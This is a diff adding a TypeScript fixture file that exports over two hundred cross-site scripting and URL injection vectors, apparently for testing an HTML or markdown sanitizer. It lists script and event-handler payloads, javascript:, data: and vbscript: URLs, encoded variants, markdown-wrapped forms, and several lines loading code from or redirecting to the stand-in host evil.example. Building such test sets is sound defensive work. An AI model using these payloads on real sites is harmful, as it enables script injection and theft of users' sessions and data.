@@ -1,0 +1,92 @@
+const scripts = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example></sCrIpT>',
+  '</script><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '--><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert(1)//',
+  '<body onload=alert(1)>',
+  '<iframe src="javascript:alert(1)">',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="javascript:alert(1)">',
+  '<embed src="javascript:alert(1)">',
+  '<math href="javascript:alert(1)">x</math>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<video><source onerror=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href=//evil.example>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<form action=https://evil.example><button>x',
+  '<style>*{display:none}</style>',
+  '" onmouseover="alert(1)',
+  "' onmouseover='alert(1)",
+  '"><img src=x onerror=alert(1)>',
+  "'><img src=x onerror=alert(1)>",
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '<\u0001script>alert(1)</script>',
+  '＜script＞alert(1)＜/script＞',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '\u0024{alert(1)}{{alert(1)}}<%= alert(1) %>',
+  '@nonce@<script nonce="@nonce@">alert(1)</script>',
+  '<a href="javascript:alert(1)">x</a>',
+]
+
+const addresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  'javascript&colon;alert(1)',
+  '&#106;avascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  '//evil.example',
+  'https://x"onmouseover="alert(1)',
+  "https://x'onmouseover='alert(1)",
+  'https://x/<script>alert(1)</script>',
+  'https://x/"><img src=x onerror=alert(1)>',
+  'http://javascript:alert(1)@x/',
+]
+
+const around = (text: string) => [
+  `**${text}**`,
+  `\`${text}\``,
+  `#tag${text}`,
+  `[${text}](https://example.com)`,
+]
+const linked = (url: string) => [
+  `[x](${url})`,
+  `[x](<${url}>)`,
+  `<${url}>`,
+  `![x](${url})`,
+  `[x]( ${url} "title")`,
+  `[a]: ${url}\n[a]`,
+]
+
+/** More than two hundred ways to smuggle something into a page. */
+export const vectors = [
+  ...scripts,
+  ...addresses,
+  ...scripts.slice(0, 20).flatMap(around),
+  ...addresses.flatMap(linked),
+]
+export const profileVectors = [...scripts, ...addresses].map((text) => [...text].slice(0, 50).join(''))
+export const urlVectors = [
+  ...addresses,
+  ...addresses.map((text) => `https://example.com/?${text}`),
+  ...scripts.map((text) => `https://example.com/${text}`),
+]
